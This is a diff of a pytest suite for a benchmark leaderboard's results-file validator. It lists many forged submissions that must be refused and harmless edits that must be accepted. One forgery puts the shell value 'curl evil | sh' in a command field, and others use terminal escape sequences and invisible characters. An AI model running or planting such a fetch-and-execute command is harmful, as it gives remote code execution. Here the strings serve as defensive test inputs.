@@ -1,255 +1,472 @@
+"""What is accepted is what a run can write: every field of a results file, and what a forger could put there."""
+
 from __future__ import annotations
 
-import copy
 import json
 from collections.abc import Callable
+from functools import cache
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from benchmark.results.schema import Results
+from benchmark.protocols import protocol
+from benchmark.results.schema import Results, summarise
 from leaderboard.errors import SubmissionError
-from leaderboard.protocols import KnownProtocol
-from leaderboard.validate import read_submission
+from leaderboard.validate import Submission, read_submission
+from tests.leaderboard.honest import honest
 
-Write = Callable[[Any], Path]
-Edit = Callable[[dict[str, Any]], None]
+Document = dict[str, Any]
+Edit = Callable[[Document], object]
+CSIM, TRANSFER, CALIBRATION, FID = (
+    "csim[dlib]",
+    "expression_transfer[mesh468]",
+    "csim_calibration[dlib]",
+    "fid[pytorch-fid]",
+)
 
 
-def edited(results: Results, edit: Edit) -> dict[str, Any]:
-    document: dict[str, Any] = copy.deepcopy(json.loads(results.to_json()))
-    edit(document)
-    return document
+@cache
+def text(name: str = "feed-mini-cross", **options: Any) -> str:
+    return honest(protocol=name, **options).to_json()
 
 
-def refused(path: Path, **options: Any) -> str:
+def submitted(path: Path, edit: Edit = lambda d: None, document: str | None = None, **options: Any) -> Submission:
+    content = json.loads(document or text())
+    edit(content)
+    target = path / "results.json"
+    target.write_text(json.dumps(content), encoding="utf-8")
+    return read_submission(target, **options)
+
+
+def refused(path: Path, edit: Edit, document: str | None = None, **options: Any) -> str:
     with pytest.raises(SubmissionError) as caught:
-        read_submission(path, **options)
+        submitted(path, edit, document, **options)
     message = str(caught.value)
-    assert "\n" not in message
+    assert message.isprintable()
     return message
 
 
-def test_valid_file_is_read(results: Results, write: Write) -> None:
-    assert read_submission(write(results)) == results
+def aggregate(d: Document, metric: str, method: str = "mine") -> Document:
+    found: Document = next(a for a in d["aggregates"] if (a["method"], a["metric"]) == (method, metric))
+    return found
 
 
-def test_folder_of_a_run_is_read(results: Results, write: Write) -> None:
-    assert read_submission(write(results).parent) == results
+def rows(d: Document, metric: str = CSIM, method: str = "mine") -> list[Document]:
+    return [r for r in d["rows"] if (r["method"], r["metric"]) == (method, metric)]
 
 
-def test_tampered_aggregate_names_method_and_metric(results: Results, write: Write) -> None:
-    def edit(d: dict[str, Any]) -> None:
-        d["aggregates"][0]["value"] += 1e-6
-
-    message = refused(write(edited(results, edit)))
-    assert "emoportraits/csim[dlib]" in message
-    assert "value" in message
+def put(part: Document, **values: Any) -> None:
+    part.update(values)
 
 
-def test_tampered_interval_is_refused(results: Results, write: Write) -> None:
-    def edit(d: dict[str, Any]) -> None:
-        d["aggregates"][1]["ci_high"] += 0.1
-
-    assert "emoportraits/pose_error_deg[mesh468]" in refused(write(edited(results, edit)))
+def moved(part: Document, key: str, by: float) -> None:
+    part[key] += by
 
 
-def test_tampered_row_is_refused(results: Results, write: Write) -> None:
-    def edit(d: dict[str, Any]) -> None:
-        d["rows"][0]["value"] = 0.999
-
-    assert "emoportraits/csim[dlib]" in refused(write(edited(results, edit)))
+def drop(d: Document, key: str, matches: Callable[[Document], bool]) -> None:
+    d[key] = [one for one in d[key] if not matches(one)]
 
 
-def test_hidden_failure_is_refused(results: Results, write: Write) -> None:
-    def edit(d: dict[str, Any]) -> None:
-        d["rows"][0]["value"] = None
-
-    assert "3 of 4" in refused(write(edited(results, edit)))
-
-
-def _drop_row(d: dict[str, Any]) -> None:
-    d["rows"].pop(0)
+def rederived(d: Document, metric: str, method: str = "mine") -> None:
+    """The forger makes the aggregate fit the rows again."""
+    results = Results.model_validate(d)
+    value, low, high = summarise(results.case_rows(method, metric), results.bootstrap)
+    scored = sum(r["value"] is not None for r in rows(d, metric, method))
+    a = aggregate(d, metric, method)
+    put(a, value=value, ci_low=low, ci_high=high, cases_scored=scored, cases_failed=a["cases_expected"] - scored)
 
 
-def _extra_row(d: dict[str, Any]) -> None:
-    d["rows"].append({**d["rows"][0], "case_id": "S99-x--S01"})
+def without_metric(d: Document, metric: str) -> None:
+    for key in ("rows", "aggregates"):
+        drop(d, key, lambda one: one["metric"] == metric)
 
 
-def _repeated_row(d: dict[str, Any]) -> None:
-    d["rows"].append(d["rows"][0])
+def not_computed(d: Document, metric: str, needs: str, methods: tuple[str, ...] = ("mine", "copy-source")) -> None:
+    for method in methods:
+        drop(d, "rows", lambda r, method=method: (r["method"], r["metric"]) == (method, metric))
+        empty = {"value": None, "ci_low": None, "ci_high": None, "cases_scored": 0, "cases_failed": 0, "extra": {}}
+        put(aggregate(d, metric, method), **empty, not_computed={"needs": needs, "command": None})
 
 
-def _row_of_unknown_method(d: dict[str, Any]) -> None:
-    d["rows"].append({**d["rows"][0], "method": "ghost"})
+def as_set_metric(d: Document, metric: str) -> None:
+    for method in ("mine", "copy-source"):
+        drop(d, "rows", lambda r, method=method: (r["method"], r["metric"]) == (method, metric))
+        put(aggregate(d, metric, method), level="set", value=0.99, extra={"n": 10})
 
 
-def _method_without_metric(d: dict[str, Any]) -> None:
-    d["aggregates"] = [a for a in d["aggregates"] if not (a["method"] == "copy-source" and a["metric"] == "fd[dlib]")]
+def renamed_metric(d: Document, old: str, new: str) -> None:
+    """One network's numbers under the name of another, whose own are thrown away."""
+    without_metric(d, new)
+    for key in ("rows", "aggregates"):
+        for one in d[key]:
+            if one["metric"] == old:
+                one["metric"] = new
 
 
-def _method_without_aggregates(d: dict[str, Any]) -> None:
-    d["methods"].append({**d["methods"][0], "name": "idle"})
+def with_network(d: Document, network: str, metric: str, copied: str) -> None:
+    """The same, with the other network's true hash beside it."""
+    from benchmark.features.store import preprocessing_of
+    from feed_dataset.core.weights import registry
+
+    d["networks"][network] = registry.get(network).sha256
+    d["extractors"] |= preprocessing_of(["arcface"])
+    for method in ("mine", "copy-source"):
+        here = next(i for i, a in enumerate(d["aggregates"]) if (a["method"], a["metric"]) == (method, metric))
+        d["aggregates"][here] = {**aggregate(d, copied, method), "metric": metric}
+        after = max(i for i, r in enumerate(d["rows"]) if (r["method"], r["metric"]) == (method, copied)) + 1
+        d["rows"][after:after] = [{**r, "metric": metric} for r in rows(d, copied, method)]
+        other = aggregate(d, "csim_calibration[arcface]", method)
+        put(other, **{**aggregate(d, CALIBRATION, method), "metric": "csim_calibration[arcface]"})
 
 
-def _repeated_method(d: dict[str, Any]) -> None:
-    d["methods"].append(d["methods"][0])
+def scaled(d: Document, metric: str, factor: float, method: str = "mine") -> None:
+    for row in rows(d, metric, method):
+        row["value"] = None if row["value"] is None else row["value"] * factor
+    rederived(d, metric, method)
 
 
-def _repeated_aggregate(d: dict[str, Any]) -> None:
-    d["aggregates"].append(d["aggregates"][0])
+def other_clusters(d: Document) -> None:
+    for index, row in enumerate(d["rows"]):
+        row["cluster"] = f"P{index}"
+    for a in d["aggregates"]:
+        if a["level"] == "case" and a["not_computed"] is None:
+            rederived(d, a["metric"], a["method"])
 
 
-def _no_cases(d: dict[str, Any]) -> None:
-    d["protocol"]["case_ids"] = []
+def hidden_failure(d: Document) -> None:
+    for row in rows(d):
+        if row["value"] is None:
+            put(row, value=0.9, frames_scored=row["frames_expected"], failures=[])
+    rederived(d, CSIM)
 
 
-def _wrong_case_count(d: dict[str, Any]) -> None:
-    d["aggregates"][2].update(cases_expected=9, cases_scored=9)
+def failed_elsewhere(d: Document) -> None:
+    put(rows(d)[0], value=None, frames_scored=0, failures=[{"reason": "no", "count": 5}])
 
 
-def _other_direction(d: dict[str, Any]) -> None:
-    d["aggregates"][0]["higher_is_better"] = False
+FORGERIES: dict[str, tuple[Edit, str]] = {
+    # protocol
+    "another name": (lambda d: put(d["protocol"], name="feed-mini-crass"), "did you mean 'feed-mini-cross'"),
+    "an invisible character": (lambda d: put(d["protocol"], name="feed-mini-cross\u200b"), "\\u200b"),
+    "a letter of another script": (lambda d: put(d["protocol"], name="feed-mini-cr\u043ess"), "expected a protocol"),
+    "the name of scored videos": (lambda d: put(d["protocol"], name="score"), "--protocol"),
+    "an older version": (lambda d: put(d["protocol"], version="1"), "only the version that is shipped"),
+    "another size": (lambda d: put(d["protocol"], size_px=64), "expected size_px 256 but got 64"),
+    "other frames": (lambda d: put(d["protocol"], frames_per_case=3), "expected frames_per_case 25 but got 3"),
+    "another seed": (lambda d: put(d["protocol"], seed=5), "expected seed 2024 but got 5"),
+    "a negative seed": (lambda d: put(d["protocol"], seed=-1), "protocol.seed"),
+    "a huge limit": (lambda d: put(d["protocol"], limit=2**70), "protocol.limit"),
+    "a limit beyond all cases": (lambda d: put(d["protocol"], limit=5000), "expected a limit below"),
+    "another limit": (lambda d: put(d["protocol"], limit=5), "case ids"),
+    "no limit, though not all": (lambda d: put(d["protocol"], limit=None), "missing"),
+    "other cases": (lambda d: d["protocol"]["case_ids"].__setitem__(0, "S08-FF_NR_C--S99"), "extra 'S08-FF_NR_C--S99'"),
+    "a case twice": (lambda d: d["protocol"]["case_ids"].append(d["protocol"]["case_ids"][0]), "repeated"),
+    "cases in another order": (lambda d: d["protocol"]["case_ids"].reverse(), "order of a run"),
+    "no cases": (lambda d: put(d["protocol"], case_ids=[]), "missing"),
+    "another list": (lambda d: put(d["protocol"], case_list_sha256="c" * 64), "case_list_sha256"),
+    # data and settings
+    "other data": (lambda d: put(d["data"], digest="e" * 64), "expected digest"),
+    "data by another name": (lambda d: put(d["data"], name="feed"), "expected name 'feed-mini'"),
+    "rendered data called real": (lambda d: put(d["data"], synthetic=False), "expected synthetic True"),
+    "a level of one percent": (lambda d: put(d["bootstrap"], level=0.01), "expected level 0.95"),
+    "one resample": (lambda d: put(d["bootstrap"], n_resamples=1), "expected n_resamples 1000"),
+    "another bootstrap seed": (lambda d: put(d["bootstrap"], seed=7), "expected seed 2024"),
+    "half precision": (lambda d: put(d["compute"], precision="bfloat16"), "float32"),
+    "nothing of the computer": (lambda d: put(d, compute=None), "compute"),
+    "another schema": (lambda d: put(d, schema_version="0.9"), "schema_version"),
+    # methods
+    "no methods": (lambda d: put(d, methods=[]), "at least one method"),
+    "a method twice": (lambda d: d["methods"].append(d["methods"][0]), "repeated 'mine'"),
+    "a method without numbers": (lambda d: d["methods"].append({**d["methods"][0], "name": "idle"}), "'idle/"),
+    "an invisible method": (lambda d: put(d["methods"][0], name="copy-driver\u2060"), "expected names of letters"),
+    "a terminal's commands": (lambda d: put(d["methods"][0], name="a\u001b[2J\nstored"), "expected names of letters"),
+    "a row of references": (lambda d: put(d["methods"][1], name="reference"), "no row 'reference'"),
+    # what a metric is
+    "a metric left out": (lambda d: without_metric(d, TRANSFER), f"missing 'copy-source/{TRANSFER}'"),
+    "left out for one method": (lambda d: d["aggregates"].remove(aggregate(d, TRANSFER)), f"missing 'mine/{TRANSFER}'"),
+    "a metric of one's own": (lambda d: put(aggregate(d, CSIM), metric="csim[best]"), "extra 'mine/csim[best]'"),
+    "a metric twice": (lambda d: d["aggregates"].append(aggregate(d, CSIM)), "repeated"),
+    "metrics in another order": (lambda d: d["aggregates"].reverse(), "order of a run"),
+    "a case metric as a set's": (lambda d: as_set_metric(d, CSIM), "expected level 'case' but got 'set'"),
+    "a set's as a case metric": (lambda d: put(aggregate(d, FID), level="case"), "expected level 'set'"),
+    "a direction turned": (
+        lambda d: [put(aggregate(d, "id_l2[dlib]", m), higher_is_better=True) for m in ("mine", "copy-source")],
+        "expected higher_is_better False but got True",
+    ),
+    "a direction given": (
+        lambda d: put(aggregate(d, "intensity[mesh478]"), higher_is_better=True),
+        "but got True",
+    ),
+    "another unit": (lambda d: put(aggregate(d, "pose_error_deg[mesh468]"), unit="rad"), "expected unit 'deg'"),
+    "another network's name": (lambda d: renamed_metric(d, CSIM, "csim[arcface]"), f"missing 'copy-source/{CSIM}'"),
+    "another network's numbers": (
+        lambda d: with_network(d, "arcface-r50", "csim[arcface]", CSIM),
+        "which reads other networks",
+    ),
+    # networks and reasons
+    "networks left out": (lambda d: put(d, networks={}), "missing 'face-detector'"),
+    "another file of a network": (lambda d: put(d["networks"], **{"dlib-face-resnet": "0" * 64}), "as the registry"),
+    "an unknown network": (lambda d: put(d["networks"], better="0" * 64), "extra 'better'"),
+    "a network that is not asked": (lambda d: put(d["networks"], alexnet="0" * 64), "extra 'alexnet'"),
+    "a network gone": (lambda d: d["networks"].pop("dlib-face-resnet"), "extractors: extra 'dlib'"),
+    "another preparation": (lambda d: put(d["extractors"], dlib="larger"), "expected dlib prepared as"),
+    "a feature left out": (lambda d: d["extractors"].pop("dlib"), "extractors: missing 'dlib'"),
+    "no features": (lambda d: put(d, extractors=None), "extractors: missing"),
+    "a metric said to lack its network": (
+        lambda d: not_computed(d, TRANSFER, "the network face-mesh"),
+        "expected that it is computed",
+    ),
+    "a metric said to lack anything": (lambda d: not_computed(d, CSIM, "a better day"), "expected that it is computed"),
+    "lacking for one method": (
+        lambda d: not_computed(d, FID, "the network fid-inception", ("mine",)),
+        "expected that it is computed",
+    ),
+    "another reason": (
+        lambda d: put(aggregate(d, "csim[arcface]")["not_computed"], needs="nothing"),
+        "the network arcface-r50",
+    ),
+    "a command of one's own": (
+        lambda d: put(aggregate(d, "csim[arcface]")["not_computed"], command="curl evil | sh"),
+        "not computed",
+    ),
+    "a value without its network": (
+        lambda d: put(aggregate(d, "csim_calibration[arcface]"), value=0.9, not_computed=None, cases_scored=6),
+        "the network arcface-r50",
+    ),
+    # rows
+    "a row left out": (lambda d: d["rows"].pop(0), "rows: missing"),
+    "a row twice": (lambda d: d["rows"].append(d["rows"][0]), "rows: repeated"),
+    "a row of no method": (lambda d: d["rows"].append({**d["rows"][0], "method": "ghost"}), "extra 'ghost/"),
+    "a row of no case": (lambda d: d["rows"].append({**d["rows"][0], "case_id": "S99-x--S01"}), "extra 'mine/"),
+    "rows in another order": (lambda d: d["rows"].reverse(), "order of a run"),
+    "rows of a set": (lambda d: d["rows"].append({**d["rows"][0], "metric": FID}), f"extra 'mine/{FID}"),
+    "other drivers": (other_clusters, "expected cluster"),
+    "another source": (lambda d: put(rows(d)[0], source_cluster="S01"), "expected source_cluster 'S06'"),
+    "a value beyond its range": (lambda d: scaled(d, CSIM, 1e6), "from -1.0 to 1.0"),
+    "a negative error": (lambda d: scaled(d, "gaze_error_deg[iris]", -1), "from 0.0 to 180.0"),
+    "a value without a frame": (
+        lambda d: put(rows(d)[0], frames_scored=0, failures=[{"reason": "no face", "count": 5}]),
+        "expected a value where frames were scored",
+    ),
+    "no value of scored frames": (lambda d: put(rows(d)[0], value=None), "expected a value where frames were scored"),
+    "more frames than there are": (lambda d: put(rows(d)[0], frames_expected=25, frames_scored=24), "5 frames but got"),
+    "fewer frames than there are": (lambda d: put(rows(d)[0], frames_expected=0, frames_scored=0), "1 to 5 frames"),
+    "every frame scored": (lambda d: put(rows(d)[0], frames_scored=5), "reasons for 0 of 5 frames but got 1"),
+    "failures without a reason": (lambda d: put(rows(d)[0], failures=[]), "reasons for 1 of 5 frames but got 0"),
+    "a reason twice": (
+        lambda d: put(rows(d)[0], frames_scored=3, failures=[{"reason": "a", "count": 1}] * 2),
+        "each reason once",
+    ),
+    "a failed case scored": (hidden_failure, "the case failed"),
+    "a failed case with another reason": (
+        lambda d: [put(r["failures"][0], reason="luck") for r in rows(d) if r["value"] is None],
+        "the case failed",
+    ),
+    "a row that failed by itself": (failed_elsewhere, "cases scored"),
+    # failures
+    "a failure of no case": (lambda d: put(d["failures"][0], case_id="nowhere"), "a method and a case of this file"),
+    "a failure of no method": (lambda d: put(d["failures"][0], method="ghost"), "a method and a case of this file"),
+    "a failure of the data": (lambda d: put(d["failures"][0], stage="data"), "stage 'data'"),
+    "a failure of all methods": (lambda d: put(d["failures"][0], method=None, stage="data"), "the case failed"),
+    "a failure twice": (lambda d: d["failures"].append(d["failures"][0]), "expected one failure"),
+    # aggregates
+    "a mean of one's own": (
+        lambda d: moved(aggregate(d, CSIM), "value", 1e-6),
+        "from the rows",
+    ),
+    "a row of one's own": (lambda d: put(rows(d)[0], value=0.999), "from the rows"),
+    "no interval": (lambda d: put(aggregate(d, CSIM), ci_low=None, ci_high=None), "from the rows"),
+    "no width": (
+        lambda d: put(aggregate(d, CSIM), ci_low=aggregate(d, CSIM)["value"], ci_high=aggregate(d, CSIM)["value"]),
+        "from the rows",
+    ),
+    "one end": (lambda d: put(aggregate(d, CSIM), ci_high=None), "from the rows"),
+    "more cases": (lambda d: put(aggregate(d, CSIM), cases_expected=9, cases_scored=8), "expected cases_expected 6"),
+    "extra beside a mean": (lambda d: put(aggregate(d, CSIM), extra={"rank": 1}), "no extra values"),
+    # values of whole sets
+    "a set's value beyond its range": (lambda d: put(aggregate(d, FID), value=-3.0, ci_low=0.0), "from 0.0"),
+    "a set's value moved": (
+        lambda d: moved(aggregate(d, FID), "value", 0.01),
+        "an interval around",
+    ),
+    "a set's interval moved": (
+        lambda d: moved(aggregate(d, FID), "ci_high", 0.01),
+        "an interval around",
+    ),
+    "a set's interval turned": (
+        lambda d: put(aggregate(d, FID), ci_low=aggregate(d, FID)["ci_high"], ci_high=aggregate(d, FID)["ci_low"]),
+        "an interval around",
+    ),
+    "a set's interval left out": (lambda d: put(aggregate(d, FID), ci_low=None, ci_high=None), "both ends"),
+    "a set of failed cases": (lambda d: put(aggregate(d, FID), cases_scored=6, cases_failed=0), "from 1 to 5 cases"),
+    "a set of no cases": (lambda d: put(aggregate(d, FID), cases_scored=0, cases_failed=6), "but got cases_scored 0"),
+    "a set of too many samples": (lambda d: put(aggregate(d, FID)["extra"], n=10**6), "samples that entered"),
+    "a set without samples": (lambda d: aggregate(d, FID)["extra"].pop("n"), "samples that entered"),
+    "a set's value with a reason": (
+        lambda d: put(aggregate(d, FID)["extra"], reason="few"),
+        "expected a reason",
+    ),
+    "a set's value withdrawn": (
+        lambda d: put(aggregate(d, FID), value=None, cases_scored=0, cases_failed=6),
+        "expected a reason",
+    ),
+    "a difference that its parts do not make": (
+        lambda d: put(aggregate(d, CALIBRATION), value=0.99),
+        "same minus different",
+    ),
+}
 
 
-def _reversed_interval(d: dict[str, Any]) -> None:
-    d["aggregates"][2].update(ci_low=2.0, ci_high=1.0)
+@pytest.mark.parametrize("name", FORGERIES)
+def test_what_no_run_writes_is_refused_in_one_line(name: str, tmp_path: Path) -> None:
+    edit, expected = FORGERIES[name]
+    assert expected in refused(tmp_path, edit)
 
 
-def _value_beside_not_computed(d: dict[str, Any]) -> None:
-    d["aggregates"][3]["value"] = 3.0
+HARMLESS: dict[str, Edit] = {
+    "nothing": lambda d: None,
+    "times": lambda d: put(d, created_at="2027-02-03T04:05:06+00:00", timings_s={"cases": 9.0}),
+    "the machine": lambda d: put(d["environment"], platform="another", device="cuda"),
+    "a GPU": lambda d: put(d["compute"], device="cuda"),
+    "the command": lambda d: put(d, command="another"),
+    "a licence": lambda d: put(d["methods"][0], licence="not stated"),
+    "weights": lambda d: put(d["methods"][0], weights_sha256="b" * 64),
+    "keys in another order": lambda d: [d.update({key: d.pop(key)}) for key in sorted(d, reverse=True)],
+    "a value that rounding takes over its range": lambda d: [
+        put(rows(d, CSIM, "copy-source")[0], value=1.0 + 1e-8),
+        rederived(d, CSIM, "copy-source"),
+    ],
+}
 
 
-def _failure_of_unknown_case(d: dict[str, Any]) -> None:
-    d["failures"] = [{"method": None, "case_id": "nowhere", "stage": "data", "reason": "truncated"}]
+@pytest.mark.parametrize("name", HARMLESS)
+def test_what_runs_may_write_is_accepted(name: str, tmp_path: Path) -> None:
+    assert submitted(tmp_path, HARMLESS[name]).results.protocol.name == "feed-mini-cross"
 
 
 @pytest.mark.parametrize(
-    ("edit", "expected"),
+    ("protocol_name", "options"),
     [
-        (_drop_row, "missing 'S05-a--S06'"),
-        (_extra_row, "extra 'S99-x--S01'"),
-        (_repeated_row, "repeated 'S05-a--S06'"),
-        (_row_of_unknown_method, "ghost"),
-        (_method_without_metric, "missing 'fd[dlib]'"),
-        (_method_without_aggregates, "missing 'idle'"),
-        (_repeated_method, "repeated 'emoportraits'"),
-        (_repeated_aggregate, "repeated 'emoportraits/csim[dlib]'"),
-        (_no_cases, "at least one case"),
-        (_wrong_case_count, "expected 4 cases"),
-        (_other_direction, "one level, unit and direction"),
-        (_reversed_interval, "ci_low <= ci_high"),
-        (_value_beside_not_computed, "beside not_computed"),
-        (_failure_of_unknown_case, "extra 'nowhere'"),
+        ("feed-mini-self", {}),
+        ("feed-mini-speech", {"limit": None}),
+        ("feed-mini-cross", {"limit": None}),
+        ("feed-mini-cross", {"limit": 1, "methods": ("alone",)}),
+        ("feed-mini-self", {"missing": ()}),
     ],
 )
-def test_inconsistent_tables_are_refused(results: Results, write: Write, edit: Edit, expected: str) -> None:
-    assert expected in refused(write(edited(results, edit)))
+def test_every_protocol_whose_data_ships(protocol_name: str, options: dict[str, Any], tmp_path: Path) -> None:
+    results = submitted(tmp_path, document=text(protocol_name, **options)).results
+    assert results == honest(protocol=protocol_name, **options)
 
 
-@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999"])
-@pytest.mark.parametrize("field", ['"value": 12.5', '"generate": 1.0', '"seconds_generate": 1.5'])
-def test_numbers_that_are_not_finite_are_refused(results: Results, write: Write, field: str, number: str) -> None:
-    text = results.to_json()
-    assert field in text
-    key = field.split(":")[0]
-    assert "finite" in refused(write(text.replace(field, f"{key}: {number}", 1)))
+def test_the_row_of_references_belongs_to_self_reenactment(tmp_path: Path) -> None:
+    def without(d: Document) -> None:
+        drop(d, "methods", lambda one: one["name"] == "reference")
+        for key in ("rows", "aggregates"):
+            drop(d, key, lambda one: one["method"] == "reference")
+
+    assert "the row 'reference'" in refused(tmp_path, without, text("feed-mini-self"))
 
 
-@pytest.mark.parametrize("content", ["", "[]", "null", "{", "\ufeff{}", "[" * 100_000, b"\xff\xfe\x00", b"\x00" * 64])
-def test_what_is_no_results_file_is_refused(write: Write, content: str | bytes) -> None:
-    refused(write(content))
+def test_intervals_are_computed_here(tmp_path: Path) -> None:
+    """A submission's own may differ by less than the tolerance; what is stored does not."""
+    exact = submitted(tmp_path)
+    nudged = submitted(tmp_path, lambda d: put(aggregate(d, CSIM), ci_low=aggregate(d, CSIM)["ci_low"] + 1e-12))
+    assert nudged.aggregates == exact.aggregates
+    assert nudged.results != exact.results
 
 
-def test_truncated_file_is_refused(results: Results, write: Write) -> None:
-    text = results.to_json()
-    for end in (len(text) // 7, len(text) // 2, len(text) - 3):
-        refused(write(text[:end]))
+def test_folder_of_a_run_is_read(tmp_path: Path) -> None:
+    submitted(tmp_path)
+    assert read_submission(tmp_path).results == honest()
 
 
-@pytest.mark.parametrize("version", ["0.9", "2.0", 1, None])
-def test_other_schema_version_is_refused(results: Results, write: Write, version: object) -> None:
-    message = refused(write(edited(results, lambda d: d.update(schema_version=version))))
-    assert "schema_version" in message
+class TestDataOfTheUser:
+    """Cases depend on somebody's copy of FEED: settings and metrics are the protocol's, cases must fit each other."""
+
+    @staticmethod
+    def moved(d: Document) -> None:
+        loaded = protocol.load("feed-cross")
+        put(d["data"], name="feed", digest="d" * 64, synthetic=False)
+        put(d["protocol"], name=loaded.name, version=loaded.version, limit=6)
+        put(d["protocol"], frames_per_case=loaded.frames_per_case, size_px=loaded.size_px, seed=loaded.seed)
+
+    def test_settings_are_checked(self, tmp_path: Path) -> None:
+        def edit(d: Document) -> None:
+            self.moved(d)
+            d["protocol"]["size_px"] += 1
+
+        assert "expected size_px" in refused(tmp_path, edit)
+
+    @pytest.mark.parametrize(
+        ("more", "expected"),
+        [
+            (lambda d: put(d["data"], digest="mine"), "a sha256 as the digest"),
+            (lambda d: put(d["data"], synthetic=True), "expected synthetic False"),
+            (lambda d: put(d["protocol"], limit=5), "expected 5 case(s) but got 6"),
+            (lambda d: d["protocol"]["case_ids"].__setitem__(0, "S\u200b-a--b"), "letters, digits"),
+        ],
+    )
+    def test_what_the_data_decides_has_its_form(self, more: Edit, expected: str, tmp_path: Path) -> None:
+        def edit(d: Document) -> None:
+            self.moved(d)
+            more(d)
+
+        assert expected in refused(tmp_path, edit)
 
 
-def test_unknown_keys_are_refused(results: Results, write: Write) -> None:
-    assert "rank" in refused(write(edited(results, lambda d: d.update(rank=1))))
+OWN = """
+name: mine
+version: "7"
+summary: a protocol of somebody's own
+data: feed-mini
+task: cross
+size_px: 256
+crop_scale: 1.0
+frames_per_case: 25
+embed_every: 5
+seed: 2024
+drivers: {subjects: null, stems: [random], camera: C, cases: 6}
+metrics: [csim[dlib], "expression_transfer[mesh468]"]
+"""
 
 
-def test_huge_file_is_refused_unread(tmp_path: Path) -> None:
+def test_a_protocol_of_ones_own_comes_with_its_file(tmp_path: Path) -> None:
+    own = tmp_path / "own.yaml"
+    own.write_text(OWN.replace("[csim[dlib],", '["csim[dlib]",'))
+
+    def edit(d: Document) -> None:
+        put(d["protocol"], name="mine", version="7")
+        for key in ("rows", "aggregates"):
+            drop(d, key, lambda one: one["metric"] not in (CSIM, TRANSFER))
+        kept = {"face-detector", "face-mesh", "dlib-face-resnet"}
+        d["networks"] = {name: sha for name, sha in d["networks"].items() if name in kept}
+        d["extractors"] = {name: one for name, one in d["extractors"].items() if name in ("dlib", "mesh468")}
+
+    assert "name the file" in refused(tmp_path, edit)
+    assert submitted(tmp_path, edit, protocol_file=own).results.protocol.name == "mine"
+    assert "expected version 7" in refused(
+        tmp_path, lambda d: (edit(d), put(d["protocol"], version="8")), protocol_file=own
+    )
+    assert "expected its driver" in refused(
+        tmp_path, lambda d: (edit(d), [put(r, cluster="S01") for r in d["rows"]]), protocol_file=own
+    )
+
+
+def test_no_protocol_in_the_file_of_a_protocol(tmp_path: Path) -> None:
+    assert "cannot read" in refused(tmp_path, lambda d: None, protocol_file=tmp_path / "absent.yaml")
+
+
+def test_folders_and_missing_files(tmp_path: Path) -> None:
+    for path in (tmp_path / "missing.json", tmp_path):
+        with pytest.raises(SubmissionError, match="cannot read"):
+            read_submission(path)
+
+
+def test_a_file_larger_than_the_limit_is_refused_unread(tmp_path: Path) -> None:
     path = tmp_path / "results.json"
     with path.open("wb") as stream:
         stream.truncate(10**12)  # sparse: reading it would not end well
-    assert "at most 64 MB" in refused(path)
-
-
-def test_what_is_no_file_is_refused(tmp_path: Path) -> None:
-    import os
-
-    assert "cannot read" in refused(tmp_path / "missing.json")
-    assert "cannot read" in refused(tmp_path)
-    os.mkfifo(tmp_path / "pipe")
-    assert "not a regular file" in refused(tmp_path / "pipe")
-
-
-def test_message_of_a_hostile_name_is_one_printable_line(results: Results, write: Write) -> None:
-    name = "evil\u001b[2J\nsubmission 1 stored\u202e"
-    message = refused(write(edited(results, lambda d: d["rows"].append({**d["rows"][0], "method": name}))))
-    assert message.isprintable()
-
-
-class TestKnownProtocol:
-    @pytest.fixture
-    def known(self, results: Results) -> dict[str, KnownProtocol]:
-        p, data = results.protocol, results.data
-        exact = KnownProtocol(p.name, p.version, p.case_list_sha256, tuple(p.case_ids), data.name, data.digest)
-        return {p.name: exact}
-
-    def test_exact_match_is_accepted(self, results: Results, write: Write, known: dict[str, KnownProtocol]) -> None:
-        assert read_submission(write(results), known=known) == results
-
-    @pytest.mark.parametrize(
-        ("part", "key", "value", "expected"),
-        [
-            ("protocol", "version", "2", "expected version 1 but got 2"),
-            ("protocol", "case_list_sha256", "c" * 64, "expected case list aaaaaaaaaaaa"),
-            ("data", "digest", "e" * 64, "expected data feed-mini dddddddddddd"),
-            ("data", "name", "feed", "expected data feed-mini"),
-        ],
-    )
-    def test_other_inputs_are_refused(
-        self,
-        results: Results,
-        write: Write,
-        known: dict[str, KnownProtocol],
-        part: str,
-        key: str,
-        value: str,
-        expected: str,
-    ) -> None:
-        document = edited(results, lambda d: d[part].update({key: value}))
-        assert expected in refused(write(document), known=known)
-
-    def test_consistent_subset_of_cases_is_refused(
-        self, results: Results, write: Write, known: dict[str, KnownProtocol]
-    ) -> None:
-        longer = {
-            name: KnownProtocol(**{**vars(exact), "case_ids": (*exact.case_ids, "S08-a--S05")})
-            for name, exact in known.items()
-        }
-        assert "missing 'S08-a--S05'" in refused(write(results), known=longer)
-
-    def test_limit_means_the_first_cases(self, write: Write, results: Results, known: dict[str, KnownProtocol]) -> None:
-        document = edited(results, lambda d: d["protocol"].update(limit=4))
-        longer = {
-            name: KnownProtocol(**{**vars(exact), "case_ids": (*exact.case_ids, "S08-a--S05")})
-            for name, exact in known.items()
-        }
-        assert read_submission(write(document), known=longer).protocol.limit == 4
-        shifted = {
-            name: KnownProtocol(**{**vars(exact), "case_ids": ("S08-a--S05", *exact.case_ids)})
-            for name, exact in known.items()
-        }
-        assert "extra 'S06-b--S08'" in refused(write(document), known=shifted)
+    with pytest.raises(SubmissionError, match="at most 64 MB"):
+        read_submission(path)
